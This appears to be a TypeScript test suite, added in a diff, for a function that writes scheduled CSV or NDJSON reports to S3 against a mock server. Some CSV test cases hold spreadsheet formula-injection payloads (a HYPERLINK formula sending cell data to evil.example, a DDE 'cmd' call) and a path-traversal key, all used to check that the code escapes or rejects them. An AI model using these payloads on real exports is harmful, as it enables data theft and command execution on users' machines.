@@ -1,0 +1,493 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { Readable } from 'node:stream';
+import { gunzipSync } from 'node:zlib';
+import { OptionsError } from '@amplify-recipes/core';
+import {
+  captureOutput,
+  invoke,
+  lambdaContext,
+  scheduleRuleEvent,
+  schedulerEvent,
+} from '@amplify-recipes/core/testing';
+import { type HttpAnswer, type HttpServer, startHttpServer } from '@amplify-recipes/recipe-tests';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { type ReportToS3Options, reportToS3 } from './recipe.js';
+
+const MiB = 1024 * 1024;
+
+/** What S3 answers in place of success, by the operation; each of them once. */
+let failures: Record<string, HttpAnswer[]>;
+let s3: HttpServer;
+
+/** `PutObject`, `UploadPart 2`: which operation a request of S3 is. */
+function operationOf(method: string, path: string): string {
+  const query = new URL(path, 'http://s3').searchParams;
+  if (query.has('uploads')) return 'CreateMultipartUpload';
+  if (query.has('partNumber')) return `UploadPart ${query.get('partNumber')}`;
+  if (method === 'DELETE') return 'AbortMultipartUpload';
+  return query.has('uploadId') ? 'CompleteMultipartUpload' : 'PutObject';
+}
+
+function answerOf(operation: string): HttpAnswer {
+  const failure = failures[operation]?.shift();
+  if (failure !== undefined) return failure;
+  return operation === 'CreateMultipartUpload'
+    ? {
+        body: '<InitiateMultipartUploadResult><UploadId>id+1</UploadId></InitiateMultipartUploadResult>',
+      }
+    : { headers: { etag: `"${operation}"` } };
+}
+
+const failure = (status: number, code: string): HttpAnswer => ({
+  status,
+  body: `<Error><Code>${code}</Code><Message>no</Message></Error>`,
+});
+
+beforeEach(async () => {
+  failures = {};
+  s3 = await startHttpServer(({ method, path }) => answerOf(operationOf(method, path)));
+  vi.stubEnv('AWS_ENDPOINT_URL', s3.url);
+  vi.stubEnv('AWS_REGION', 'eu-west-1');
+  vi.stubEnv('AWS_ACCESS_KEY_ID', 'ASIAEXAMPLEEXAMPLE00');
+  vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'secret');
+  vi.stubEnv('MY_REPORTS_BUCKET_NAME', 'reports');
+});
+
+afterEach(async () => {
+  vi.unstubAllEnvs();
+  await s3.stop();
+});
+
+const operations = () => s3.requests.map(({ method, path }) => operationOf(method, path));
+
+const options = (overrides: Partial<ReportToS3Options> = {}): ReportToS3Options => ({
+  format: 'csv',
+  key: ({ date }) => `reports/${date}.csv`,
+  rows: [
+    { name: 'Ada', born: 1815 },
+    { name: 'Grace', born: 1906 },
+  ],
+  ...overrides,
+});
+
+function report(overrides: Partial<ReportToS3Options> = {}, context = lambdaContext()) {
+  return captureOutput(() => invoke(reportToS3(options(overrides)), schedulerEvent(), context));
+}
+
+/** What is in the object that was put. */
+async function written(overrides: Partial<ReportToS3Options>): Promise<string> {
+  const { error } = await report(overrides);
+  expect(error).toBeUndefined();
+  return s3.requests.at(-1)?.body ?? '';
+}
+
+/** Rows of a mebibyte each. */
+async function* mebibytes(count: number) {
+  for (let row = 0; row < count; row += 1) yield { text: 'x'.repeat(MiB - 12) };
+}
+
+describe('report-to-s3', () => {
+  it('puts a report where there is none, under a key of the scheduled time', async () => {
+    const { result, lines } = await report();
+    expect(s3.requests).toMatchObject([
+      {
+        method: 'PUT',
+        path: '/reports/reports/2026-11-22.csv',
+        body: '"name","born"\r\n"Ada",1815\r\n"Grace",1906\r\n',
+        headers: {
+          'if-none-match': '*',
+          'content-type': 'text/csv; charset=utf-8',
+          'content-disposition': "attachment; filename*=UTF-8''2026-11-22.csv",
+        },
+      },
+    ]);
+    expect(result).toEqual({
+      outcome: 'WRITTEN',
+      bucketName: 'reports',
+      key: 'reports/2026-11-22.csv',
+      rows: 2,
+      bytes: 41,
+    });
+    expect(lines).toMatchObject([
+      {
+        message: 'report-to-s3 is done',
+        scheduledTime: '2026-11-22T10:00:00Z',
+        rows: 2,
+        bytes: 41,
+      },
+    ]);
+  });
+
+  it.each([
+    ['a rule of EventBridge', scheduleRuleEvent()],
+    ["an Input of one's own", { time: '2026-11-22T10:00:00Z' }],
+    ['an attempt some seconds later', schedulerEvent({ time: '2026-11-22T10:00:59Z' })],
+  ])('has the same key for %s', async (_, event) => {
+    const { result } = await captureOutput(() => invoke(reportToS3(options()), event));
+    expect(result?.key).toBe('reports/2026-11-22.csv');
+  });
+
+  it('tells the key and the rows the time in the time zone that is named', async () => {
+    const key = vi.fn(() => 'a');
+    const rows = vi.fn(() => []);
+    await report({ key, rows, timeZone: 'Pacific/Kiritimati' });
+    expect(key).toHaveBeenCalledWith(expect.objectContaining({ date: '2026-11-23', hour: '00' }));
+    expect(rows).toHaveBeenCalledWith(
+      expect.objectContaining({ scheduledTime: key.mock.calls.flat()[0], detail: {} }),
+    );
+  });
+
+  it('leaves alone what is already there, and is content', async () => {
+    failures = { PutObject: [failure(412, 'PreconditionFailed')] };
+    const { result, error } = await report();
+    expect(error).toBeUndefined();
+    expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
+  });
+
+  it('is content when its answer was lost, and it finds its own report there', async () => {
+    failures = { PutObject: ['hang up', failure(412, 'PreconditionFailed')] };
+    expect((await report()).result).toMatchObject({ outcome: 'ALREADY_THERE' });
+  });
+
+  it('does it all again when another run writes the same report at the same time', async () => {
+    failures = { PutObject: [failure(409, 'ConditionalRequestConflict')] };
+    const rows = vi.fn(() => [{ a: 1 }]);
+    expect((await report({ rows })).result).toMatchObject({ outcome: 'WRITTEN', rows: 1 });
+    expect(rows).toHaveBeenCalledTimes(2);
+  });
+
+  it('sends a long report in parts, and makes it an object only where there is none', async () => {
+    const rows = () => mebibytes(20);
+    const { result } = await report({ rows, format: 'ndjson' });
+    expect(operations()).toEqual([
+      'CreateMultipartUpload',
+      'UploadPart 1',
+      'UploadPart 2',
+      'UploadPart 3',
+      'CompleteMultipartUpload',
+    ]);
+    const [begun, ...parts] = s3.requests;
+    expect(begun?.headers).toMatchObject({
+      'content-type': 'application/x-ndjson; charset=utf-8',
+      'content-disposition': expect.stringContaining('2026-11-22.csv'),
+    });
+    expect(begun?.headers).not.toHaveProperty('if-none-match');
+    const completed = parts.pop();
+    expect(completed?.headers).toMatchObject({ 'if-none-match': '*' });
+    expect(completed?.path).toContain('uploadId=id%2B1');
+    expect(completed?.body).toBe(
+      '<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Part><PartNumber>1</PartNumber><ETag>"UploadPart 1"</ETag></Part><Part><PartNumber>2</PartNumber><ETag>"UploadPart 2"</ETag></Part><Part><PartNumber>3</PartNumber><ETag>"UploadPart 3"</ETag></Part></CompleteMultipartUpload>',
+    );
+    const sizes = parts.map(({ body }) => body.length);
+    expect(Math.min(...sizes.slice(0, -1))).toBeGreaterThanOrEqual(5 * MiB);
+    expect(sizes.reduce((sum, size) => sum + size)).toBe(20 * MiB);
+    expect(result).toMatchObject({ rows: 20, bytes: 20 * MiB });
+  });
+
+  it('asks for rows no faster than S3 takes them, however long the report is', async () => {
+    let sent = 0;
+    let taken = 0;
+    let lead = 0;
+    const server = createServer(async (request, response) => {
+      for await (const chunk of request) taken += chunk.length;
+      const { body, headers } = answerOf(operationOf(request.method ?? '', request.url ?? '')) as {
+        body?: string;
+        headers?: Record<string, string>;
+      };
+      response.writeHead(200, headers).end(body);
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    vi.stubEnv('AWS_ENDPOINT_URL', `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+    async function* rows() {
+      for await (const row of mebibytes(200)) {
+        sent += MiB;
+        lead = Math.max(lead, sent - taken);
+        yield row;
+      }
+    }
+    try {
+      const handler = reportToS3(options({ rows, format: 'csv' }));
+      const context = lambdaContext({ getRemainingTimeInMillis: () => 60_000 });
+      const { result } = await captureOutput(() => invoke(handler, schedulerEvent(), context));
+      expect(result?.bytes).toBeGreaterThan(200 * MiB - 10_000);
+      // A part, what the streams hold, and rows of a mebibyte.
+      expect(lead).toBeLessThan(48 * MiB);
+    } finally {
+      server.closeAllConnections();
+      server.close();
+    }
+  });
+
+  describe('leaves no parts, and no report,', () => {
+    it.each<[string, Partial<Record<string, HttpAnswer[]>>, string]>([
+      ['a part is refused', { 'UploadPart 2': [failure(403, 'AccessDenied')] }, 'no'],
+      ['the end is refused', { CompleteMultipartUpload: [failure(200, 'InvalidPart')] }, 'no'],
+    ])('when %s', async (_, given, message) => {
+      failures = given as typeof failures;
+      const { error } = await report({ rows: () => mebibytes(20), format: 'ndjson' });
+      expect(error).toMatchObject({ message });
+      expect(operations().at(-1)).toBe('AbortMultipartUpload');
+    });
+
+    it('when there is one already', async () => {
+      failures = { CompleteMultipartUpload: [failure(412, 'PreconditionFailed')] };
+      const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
+      expect(result).toMatchObject({ outcome: 'ALREADY_THERE' });
+      expect(operations().at(-1)).toBe('AbortMultipartUpload');
+    });
+
+    it('when another run is writing it, and then sends it again', async () => {
+      failures = { CompleteMultipartUpload: [failure(409, 'ConditionalRequestConflict')] };
+      const { result } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
+      expect(result).toMatchObject({ outcome: 'WRITTEN' });
+      expect(operations()).toEqual([
+        'CreateMultipartUpload',
+        'UploadPart 1',
+        'CompleteMultipartUpload',
+        'AbortMultipartUpload',
+        'CreateMultipartUpload',
+        'UploadPart 1',
+        'CompleteMultipartUpload',
+      ]);
+    });
+
+    it.each(['csv', 'ndjson'] as const)('when a row of %s fails', async (format) => {
+      async function* rows() {
+        yield* mebibytes(50);
+        throw new Error('The table is gone: ada@example.com');
+      }
+      const { error, text } = await report({ rows, format });
+      expect(error).toMatchObject({ message: 'The table is gone: [REDACTED]' });
+      expect(text).not.toContain('ada@');
+      expect(operations().slice(0, 2)).toEqual(['CreateMultipartUpload', 'UploadPart 1']);
+      expect(operations().at(-1)).toBe('AbortMultipartUpload');
+    });
+
+    it.each(['csv', 'ndjson'] as const)(
+      'when rows of %s do not come before the time is over, and says so',
+      async (format) => {
+        async function* rows() {
+          yield* mebibytes(9);
+          await new Promise(() => {});
+        }
+        const context = lambdaContext({ getRemainingTimeInMillis: () => 2000 });
+        const { error } = await report({ rows, format }, context);
+        expect(error).toMatchObject({ message: expect.stringContaining('ran out of time') });
+        expect(operations().at(-1)).toBe('AbortMultipartUpload');
+      },
+    );
+
+    it('when S3 does not answer before the time is over', async () => {
+      failures = { 'UploadPart 1': ['silence'] };
+      const context = lambdaContext({ getRemainingTimeInMillis: () => 1000 });
+      const { error } = await report({ rows: () => mebibytes(20), format: 'ndjson' }, context);
+      expect(error).toMatchObject({ message: expect.stringContaining('ran out of time') });
+      expect(operations().at(-1)).toBe('AbortMultipartUpload');
+    });
+
+    it('but says so in the log, when they cannot be removed', async () => {
+      failures = {
+        'UploadPart 1': [failure(403, 'AccessDenied')],
+        AbortMultipartUpload: [failure(403, 'AccessDenied')],
+      };
+      const { lines } = await report({ rows: () => mebibytes(9), format: 'ndjson' });
+      expect(lines).toMatchObject([
+        { level: 'WARN', message: expect.stringContaining('could not remove the parts') },
+        { level: 'ERROR', message: 'report-to-s3 failed' },
+      ]);
+    });
+  });
+
+  describe('as CSV', () => {
+    it.each<[string, unknown, string]>([
+      ['a text', 'Ada', '"Ada"'],
+      ['a quote', 'the "Countess"', '"the ""Countess"""'],
+      ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
+      ['lines', 'one\r\ntwo', '"one\r\ntwo"'],
+      ['other languages', 'Zoë 数', '"Zoë 数"'],
+      ['nothing', undefined, ''],
+      ['null', null, ''],
+      ['an empty text', '', '""'],
+      ['a number', 1.5, '1.5'],
+      ['a negative number', -1, '-1'],
+      ['a large number', -(10n ** 20n), '-100000000000000000000'],
+      ['true', true, 'true'],
+      ['false', false, 'false'],
+      ['a date', new Date('2026-11-22T10:00:00Z'), '2026-11-22T10:00:00.000Z'],
+      ['an object', { a: [1n] }, '"{""a"":[""1""]}"'],
+      [
+        'a formula',
+        '=HYPERLINK("http://evil.example/"&A1)',
+        '"\'=HYPERLINK(""http://evil.example/""&A1)"',
+      ],
+      ['a formula by a plus', "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""],
+      ['a formula by a minus', '-2+3', '"\'-2+3"'],
+      ['a formula by an at', '@SUM(1+1)', '"\'@SUM(1+1)"'],
+      ['a formula behind a tab', '\t=1+1', '"\'\t=1+1"'],
+      ['a formula behind a carriage return', '\r=1+1', '"\'\r=1+1"'],
+      ['a formula behind a line feed', '\n=1+1', '"\'\n=1+1"'],
+      ['a formula of full width', '＝1+1', '"\'＝1+1"'],
+      ['a formula behind a quote', '"=1+1', '"""=1+1"'],
+      ['a formula behind a delimiter', 'a,=1+1', '"a,=1+1"'],
+    ])('writes %s', async (_, value, expected) => {
+      expect(await written({ rows: [{ value }] })).toBe(`"value"\r\n${expected}\r\n`);
+    });
+
+    it('does not run a formula in the name of a column', async () => {
+      expect(await written({ rows: [{ '=1+1': 1 }] })).toBe('"\'=1+1"\r\n1\r\n');
+    });
+
+    it.each<[string, Partial<ReportToS3Options>, string]>([
+      ['columns by name, in order', { columns: ['b', 'a'] as never[] }, '"b","a"\r\n2,1\r\n'],
+      ['columns that rows lack', { columns: ['a', 'c'] as never[] }, '"a","c"\r\n1,\r\n'],
+      ['another delimiter', { delimiter: ';' }, '"a";"b"\r\n1;2\r\n'],
+    ])('has %s', async (_, overrides, expected) => {
+      expect(await written({ rows: [{ a: 1, b: 2 }], ...overrides })).toBe(expected);
+    });
+
+    it('begins with the mark of UTF-8, where Excel is to read it', async () => {
+      const unmarked = await report();
+      const marked = await report({ byteOrderMark: true });
+      expect(Number(marked.result?.bytes) - Number(unmarked.result?.bytes)).toBe(3);
+    });
+
+    it.each<[string, Partial<ReportToS3Options>, string]>([
+      ['nothing, of no rows', {}, ''],
+      ['the header, of no rows, where columns are named', { columns: ['a'] as never[] }, '"a"\r\n'],
+    ])('has %s', async (_, overrides, expected) => {
+      expect(await written({ rows: [], ...overrides })).toBe(expected);
+    });
+
+    it('loses no value of a row that has more than the first', async () => {
+      const { error } = await report({ rows: [{ a: 1 }, { a: 1, 'ada@example.com': 2 }] });
+      expect(error).toMatchObject({
+        message: expect.stringContaining('Name all columns in the option "columns".'),
+      });
+      expect(s3.requests).toEqual([]);
+    });
+  });
+
+  describe('as NDJSON', () => {
+    it('writes an object a line', async () => {
+      const rows = [{ text: 'a\nb', n: 10n ** 20n, d: new Date(0) }, { '=': '=1+1' }];
+      expect(await written({ rows, format: 'ndjson' })).toBe(
+        '{"text":"a\\nb","n":"100000000000000000000","d":"1970-01-01T00:00:00.000Z"}\n{"=":"=1+1"}\n',
+      );
+    });
+  });
+
+  it('compresses, and says so', async () => {
+    let body = Buffer.alloc(0);
+    const server = createServer(async (request, response) => {
+      expect(request.headers['content-encoding']).toBe('gzip');
+      body = Buffer.concat(await request.toArray());
+      response.end();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    vi.stubEnv('AWS_ENDPOINT_URL', `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+    try {
+      expect((await report({ gzip: true })).error).toBeUndefined();
+      expect(gunzipSync(body).toString()).toBe('"name","born"\r\n"Ada",1815\r\n"Grace",1906\r\n');
+    } finally {
+      server.closeAllConnections();
+      server.close();
+    }
+  });
+
+  it.each<[string, unknown]>([
+    ['a text', ['Ada']],
+    ['null', [null]],
+  ])('refuses a row that is %s', async (_, rows) => {
+    const { error } = await report({ rows: rows as object[] });
+    expect(error).toMatchObject({ message: 'A row is no object.' });
+    expect(s3.requests).toEqual([]);
+  });
+
+  it.each([
+    ['an empty key', ''],
+    ['a key from above', 'reports/../secrets.csv'],
+    ['a key of dots', 'reports/.'],
+    ['a key that begins with a slash', '/reports.csv'],
+    ['a key with a line break', 'reports\n.csv'],
+    ['a key of half a character', 'reports\uD800.csv'],
+    ['a key of over 1,024 bytes', 'ä'.repeat(513)],
+    ['no text', 5 as unknown as string],
+  ])('refuses %s, and asks for no rows', async (_, key) => {
+    const rows = vi.fn(() => []);
+    const { error } = await report({ key: () => key, rows });
+    expect(error).toMatchObject({ message: expect.stringContaining('The key is not valid.') });
+    expect(rows).not.toHaveBeenCalled();
+  });
+
+  it('puts a key as it is, whatever is in it', async () => {
+    const key = "a b+c/ä%2F?#&'()*~.csv";
+    const { result } = await report({ key: () => key });
+    const [request] = s3.requests;
+    expect(result).toMatchObject({ key });
+    expect(request?.path).toBe('/reports/a%20b%2Bc/%C3%A4%252F%3F%23%26%27%28%29%2A~.csv');
+    expect(request?.headers['content-disposition']).toBe(
+      "attachment; filename*=UTF-8''%C3%A4%252F%3F%23%26%27%28%29%2A~.csv",
+    );
+  });
+
+  it.each<[string, Record<string, string | undefined>, string]>([
+    ['the only bucket', {}, 'reports'],
+    ['that for reports', { REPORTS_BUCKET_NAME: 'mine', UPLOADS_BUCKET_NAME: 'uploads' }, 'mine'],
+    ['that of no other name', { MY_REPORTS_BUCKET_NAME: undefined, BUCKET_NAME: 'mine' }, 'mine'],
+  ])('takes %s of the environment', async (_, environment, expected) => {
+    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
+    expect((await report()).result).toMatchObject({ bucketName: expected });
+  });
+
+  it.each<[string, Record<string, string | undefined>, string]>([
+    ['has none', { MY_REPORTS_BUCKET_NAME: undefined }, 'Allow the function to write to a bucket.'],
+    [
+      'has several',
+      { UPLOADS_BUCKET_NAME: 'uploads' },
+      'MY_REPORTS_BUCKET_NAME, UPLOADS_BUCKET_NAME',
+    ],
+    [
+      'has one that Amplify could not read',
+      { MY_REPORTS_BUCKET_NAME: '<value will be resolved during runtime>' },
+      'bucketName is missing',
+    ],
+  ])('does not start where the environment %s', (_, environment, problem) => {
+    for (const [name, value] of Object.entries(environment)) vi.stubEnv(name, value);
+    expect(() => reportToS3(options())).toThrow(OptionsError);
+    expect(() => reportToS3(options())).toThrow(problem);
+  });
+
+  it.each<[string, object, string]>([
+    ['a generator, which has rows only once', { rows: mebibytes(1) }, 'a function that returns'],
+    ['an iterator', { rows: [].values() }, 'a function that returns'],
+    ['a stream', { rows: Readable.from([]) }, 'a function that returns'],
+    ['no rows', { rows: undefined }, 'rows is missing'],
+    ['a text as the key', { key: 'reports/a.csv' }, 'key is not valid. Give a function.'],
+    ['another format', { format: 'xlsx' }, 'format is not valid'],
+    ['columns of ndjson', { format: 'ndjson', columns: ['a'] }, 'Only the format csv'],
+    ['no columns', { columns: [] }, 'Name at least one.'],
+    ['a column twice', { columns: ['a', 'a'] }, 'Name each once.'],
+    ['a delimiter that is none', { delimiter: 'x' }, 'delimiter is not valid'],
+    ['a time zone that there is not', { timeZone: 'Europe/Atlantis' }, 'IANA time zone'],
+    ['a bucket by its ARN', { bucketName: 'arn:aws:s3:::reports' }, 'bucketName is not valid'],
+    ['an unknown option', { prefix: 'a' }, 'prefix is not an option'],
+  ])('refuses %s before the first event', (_, changes, problem) => {
+    expect(() => reportToS3({ ...options(), ...changes })).toThrow(OptionsError);
+    expect(() => reportToS3({ ...options(), ...changes })).toThrow(problem);
+  });
+
+  it('refuses an event that is none of a schedule, and writes nothing', async () => {
+    const { error } = await captureOutput(() =>
+      invoke(reportToS3(options()), JSON.parse('{"Records":[]}')),
+    );
+    expect(error).toMatchObject({ message: expect.stringContaining('no event of a schedule') });
+    expect(s3.requests).toEqual([]);
+  });
+
+  it('does not change the event', async () => {
+    const event = Object.freeze(schedulerEvent());
+    await captureOutput(() => invoke(reportToS3(options()), event));
+    expect(event).toEqual(schedulerEvent());
+  });
+});
